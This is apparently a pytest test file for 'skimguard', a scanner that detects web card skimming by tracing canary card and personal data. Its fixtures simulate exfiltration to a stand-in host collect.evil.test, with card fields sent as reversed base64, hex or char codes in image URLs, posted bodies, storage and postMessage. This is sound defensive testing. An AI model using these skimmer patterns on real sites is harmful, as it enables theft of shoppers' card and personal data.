"""SG501-SG504: the scan's canary values found in what left the page, judged by destination."""

from __future__ import annotations

import base64
import dataclasses
from datetime import UTC, datetime

import pytest

from skimguard.canary import new_canary
from skimguard.detect.exfil import ExfilDetector
from skimguard.models import CanaryIdentity, Channel, Finding, Outbound
from skimguard.testing.factories import brief, make_capture, make_context, make_site

CANARY = new_canary(datetime(2026, 11, 21, tzinfo=UTC))
SHOP = "http://shop.test/checkout/payment"


def out(
    channel: Channel,
    destination: str,
    data: str,
    *,
    kind: str = "image",
    method: str = "GET",
    initiator: str | None = "http://cdn.vendor.test/v2/assist.js",
    page: str = "payment",
) -> Outbound:
    return Outbound(
        channel, destination, data.encode(), page=page, step=6, resource_type=kind, method=method, initiator=initiator
    )


def run(*items: Outbound, canary: CanaryIdentity | None = CANARY, **site: object) -> list[Finding]:
    capture = dataclasses.replace(make_capture(), outbound=items, canary=canary)
    ctx = make_context(capture, site=make_site(**site) if site else None)
    return list(ExfilDetector().run(ctx))


def joined(c: CanaryIdentity) -> str:
    return f"{c.card_number}|{c.expiry}|{c.cvc}|{c.holder}"


def test_reversed_base64_image_beacon_to_outside_host_is_sg501() -> None:
    # ruleid: SG501 — the classic Magecart: join the fields, base64, reverse, send in an image URL
    payload = base64.b64encode(joined(CANARY).encode()).decode()[::-1]
    findings = run(
        out(Channel.URL, f"http://collect.evil.test/i.gif?d={payload}", f"http://collect.evil.test/i.gif?d={payload}")
    )
    assert brief(findings) == [("SG501", "critical", "payment", "collect.evil.test|url")]
    f = findings[0]
    assert f.destination == "collect.evil.test" and f.script_url == "http://cdn.vendor.test/v2/assist.js"
    assert set(f.evidence["values"]) == {"card_number", "expiry", "cvc", "holder"}
    assert f.evidence["encoding_chains"][0] == "reverse+base64"
    assert CANARY.card_number not in str(f.evidence) and payload not in str(f.evidence)
    assert f.evidence["destination"].startswith("http://collect.evil.test/i.gif")


def test_token_api_at_the_payment_host_is_not_a_finding() -> None:
    # ok: SG501 — the card goes to the payment provider's token API
    body = f'{{"number":"{CANARY.card_number}","exp":"{CANARY.expiry}","cvc":"{CANARY.cvc}"}}'
    assert run(out(Channel.BODY, "http://pay.psp.test/v1/tokens", body, kind="fetch", method="POST")) == []


def test_card_to_own_host_is_sg503_unless_a_card_endpoint() -> None:
    # ruleid: SG503 — a collector hidden on the shop's own server
    url = f"http://shop.test/media/catalog/x.php?d={CANARY.card_number}"
    assert brief(run(out(Channel.URL, url, url))) == [("SG503", "high", "payment", "shop.test|url")]
    # ok: SG503 — a server-side integration that posts the card to a configured endpoint
    post = out(
        Channel.BODY, "http://shop.test/checkout/card", f"cc={CANARY.card_number}", kind="document", method="POST"
    )
    assert run(post, card_endpoints=["http://shop.test/checkout/card"]) == []


def test_personal_data_to_outside_host_is_sg502_and_to_own_form_is_fine() -> None:
    data = f"email={CANARY.email}&pw={CANARY.password}"
    # ruleid: SG502
    findings = run(out(Channel.BODY, "https://collect.evil.test/r", data, kind="ping", method="POST", page="register"))
    assert brief(findings) == [("SG502", "critical", "register", "collect.evil.test|body")]
    assert findings[0].evidence["values"] == ["email", "password"]
    # ok: SG502 — the shop's own registration form receiving what was typed into it
    assert run(out(Channel.BODY, "http://shop.test/member/register", data, kind="document", method="POST")) == []
    # ruleid: SG503 — but an image beacon to the own host carrying it is not a form
    assert [
        f.rule_id for f in run(out(Channel.URL, f"http://shop.test/p.gif?{data}", f"http://shop.test/p.gif?{data}"))
    ] == ["SG503"]


def test_hashed_email_in_a_pixel_is_found() -> None:
    import hashlib

    digest = hashlib.sha256(CANARY.email.lower().encode()).hexdigest()
    url = f"https://px.ads.test/t?em={digest}"
    findings = run(out(Channel.URL, url, url, page="address"))
    assert brief(findings) == [("SG502", "critical", "address", "px.ads.test|url")]


def test_staging_in_storage_is_sg504_high_for_cards_low_for_personal() -> None:
    card = out(
        Channel.LOCAL_STORAGE, "http://shop.test", f"_c={base64.b64encode(joined(CANARY).encode()).decode()}", kind=""
    )
    mail = out(Channel.COOKIE, ".shop.test", f"last_email={CANARY.email}", kind="")
    assert brief(run(card, mail)) == [
        ("SG504", "high", "payment", "shop.test|localStorage"),
        ("SG504", "low", "payment", "shop.test|cookie"),
    ]


def test_several_requests_to_one_host_and_channel_are_one_finding() -> None:
    urls = [f"http://collect.evil.test/i.gif?n={CANARY.card_number[:i]}&full={CANARY.card_number}" for i in (4, 8)]
    findings = run(*(out(Channel.URL, u, u) for u in urls))
    assert brief(findings) == [("SG501", "critical", "payment", "collect.evil.test|url")]
    assert findings[0].evidence["_requests"] == 2


def test_short_values_alone_are_not_evidence() -> None:
    # ok: SG501 — a CVC-like and an expiry-like string without the card number prove nothing
    url = f"http://stats.analytics.test/c?x={CANARY.cvc}&y={CANARY.expiry}"
    assert run(out(Channel.URL, url, url)) == []


def test_other_cards_and_no_canary_find_nothing() -> None:
    url = "http://collect.evil.test/i.gif?d=4242424242424242"
    assert run(out(Channel.URL, url, url)) == []
    hit = f"http://collect.evil.test/i.gif?d={CANARY.card_number}"
    assert run(out(Channel.URL, hit, hit), canary=None) == []


def test_a_cvc_inside_the_phone_number_does_not_make_personal_data_card_data() -> None:
    # ok: SG503 — the registration form posts the canary identity; its phone happens to contain the
    # CVC's digits. That is personal data posted to the shop's own form, not card data.
    canary = dataclasses.replace(CANARY, cvc=CANARY.phone[4:7])
    body = f"email={CANARY.email}&phone={CANARY.phone}&password={CANARY.password}"
    post = out(Channel.BODY, "http://shop.test/member/register", body, kind="document", method="POST", page="register")
    assert run(post, canary=canary) == []
    # ruleid: SG502 — sent to an outside host it is personal data, with no card value in the evidence
    beacon = out(Channel.BODY, "http://collect.evil.test/r", body, kind="ping", method="POST", page="register")
    findings = run(beacon, canary=canary)
    assert brief(findings) == [("SG502", "critical", "register", "collect.evil.test|body")]
    assert findings[0].evidence["values"] == ["email", "password", "phone"]


def test_per_sighting_evidence_does_not_change_the_finding() -> None:
    # The same theft seen in two scans (new canary, another request count) is the same finding,
    # not a changed one: no second alert.
    first, second = (new_canary(datetime(2026, 11, 21, tzinfo=UTC)) for _ in range(2))
    findings = []
    for canary, n in ((first, 1), (second, 3)):
        url = f"http://collect.evil.test/i.gif?d={canary.card_number}"
        findings += run(*(out(Channel.URL, url, url) for _ in range(n)), canary=canary)
    assert len(findings) == 2 and findings[0].fingerprint == findings[1].fingerprint
    assert findings[0].content_hash == findings[1].content_hash
    assert findings[0].evidence["_canary_tag"] != findings[1].evidence["_canary_tag"]


def test_the_reported_encoding_is_the_card_numbers() -> None:
    # ruleid: SG501 — char codes of "number|exp|cvc|name"; the CVC "124" also appears in the raw
    # text as the code of "|", so the matcher finds it plain. The encoding reported is the card
    # number's, and the CVC still counts (the card number vouches for it in the same request).
    canary = dataclasses.replace(CANARY, cvc="124")
    codes = ",".join(str(ord(ch)) for ch in joined(canary))
    url = f"http://collect.evil.test/i.gif?c={codes}"
    findings = run(out(Channel.URL, url, url), canary=canary)
    assert brief(findings) == [("SG501", "critical", "payment", "collect.evil.test|url")]
    assert findings[0].evidence["encoding_chains"][0] == "charcodes"
    assert findings[0].title.endswith("(image url, charcodes)")
    assert findings[0].evidence["values"] == ["card_number", "cvc", "expiry", "holder"]


ENCODINGS = {
    "plain": lambda s: s,
    "base64": lambda s: base64.b64encode(s.encode()).decode(),
    "reverse+base64": lambda s: base64.b64encode(s.encode()).decode()[::-1],
    "hex": lambda s: s.encode().hex(),
    "charcodes": lambda s: ",".join(str(ord(c)) for c in s),
}


@pytest.mark.parametrize("encoding", sorted(ENCODINGS))
def test_random_canaries_give_the_same_finding_every_time(encoding: str) -> None:
    # Whatever digits the random canary has, the finding, its values and its encoding are stable.
    for _ in range(300):
        canary = new_canary(datetime(2026, 11, 21, tzinfo=UTC))
        url = "http://collect.evil.test/i.gif?d=" + ENCODINGS[encoding](joined(canary))
        findings = run(out(Channel.URL, url, url), canary=canary)
        assert brief(findings) == [("SG501", "critical", "payment", "collect.evil.test|url")], canary
        assert findings[0].evidence["values"] == ["card_number", "cvc", "expiry", "holder"], canary
        assert findings[0].evidence["encoding_chains"][0] == encoding, canary


def test_a_postmessage_is_attributed_to_the_script_that_took_the_frame_handle() -> None:
    # ruleid: SG501 — the card posted into an attacker frame; the receiver only knows the origin
    from skimguard.models import HookEvent

    evil_frame = "http://collect.evil.test/frame.html"
    handle = HookEvent(
        "sink", "http://cdn.vendor.test/v2/assist.js", page="payment", step=6,
        detail={"kind": "frame-handle", "url": evil_frame}, target_host="collect.evil.test",
    )  # fmt: skip
    other_page = dataclasses.replace(handle, script_url="http://cdn.other.test/x.js", page="cart")
    item = out(Channel.POSTMESSAGE, "http://collect.evil.test", joined(CANARY), kind="postmessage", initiator=None)
    capture = dataclasses.replace(make_capture(), outbound=(item,), canary=CANARY, events=(other_page, handle))
    (finding,) = ExfilDetector().run(make_context(capture))
    assert (finding.rule_id, finding.subject) == ("SG501", "collect.evil.test|postMessage")
    assert finding.script_url == "http://cdn.vendor.test/v2/assist.js"
    assert finding.evidence["initiators"] == ["http://cdn.vendor.test/v2/assist.js"]
